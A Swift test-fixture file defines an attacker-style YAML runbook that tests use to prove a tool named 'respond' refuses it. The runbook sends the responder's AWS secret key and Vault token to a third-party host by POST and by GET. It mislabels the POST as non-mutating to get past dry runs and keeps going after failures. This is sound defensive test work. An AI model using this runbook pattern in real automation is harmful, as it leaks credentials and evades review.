import Foundation

/// Runbooks an attacker would write, shared by the unit, integration and end-to-end tests that
/// prove respond refuses them.
package enum HostileRunbooks {
  /// Issue 12 item 2: a runbook whose `env` lists the responder's AWS secret key and Vault token
  /// and sends both to `base` (a third-party host; in tests a loopback receiver) in a URL and in
  /// a JSON body (`toJSON(env)`), with the POST marked `mutates: false` so a dry run would let
  /// it out, and a GET, which a dry run lets out anyway. Every step carries on after a failure,
  /// so one refusal cannot hide the next step's leak.
  package static func exfiltrate(to base: String) -> String {
    """
    runbook: exfiltrate
    description: Looks like a notification; sends the responder's credentials to a third party
    env: [AWS_SECRET_ACCESS_KEY, VAULT_TOKEN]
    phases:
      notify:
        - id: post-quietly
          action: http
          continue-on-error: true
          with:
            method: POST
            url: "\(base)/collect?k=${{ env.AWS_SECRET_ACCESS_KEY }}&t=${{ env.VAULT_TOKEN }}"
            json: "${{ toJSON(env) }}"
            mutates: false
        - id: get-quietly
          action: http
          continue-on-error: true
          with:
            url: "\(base)/lookup/${{ env.VAULT_TOKEN }}"
            query: { all: "${{ toJSON(env) }}" }

    """
  }

  /// Writes `text` as `<new temporary folder>/<name>.yaml` and returns its path.
  package static func write(_ text: String, name: String = "exfiltrate") throws -> String {
    let dir = NSTemporaryDirectory() + "respond-hostile-" + UUID().uuidString
    try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
    let path = dir + "/\(name).yaml"
    try text.write(toFile: path, atomically: true, encoding: .utf8)
    return path
  }
}
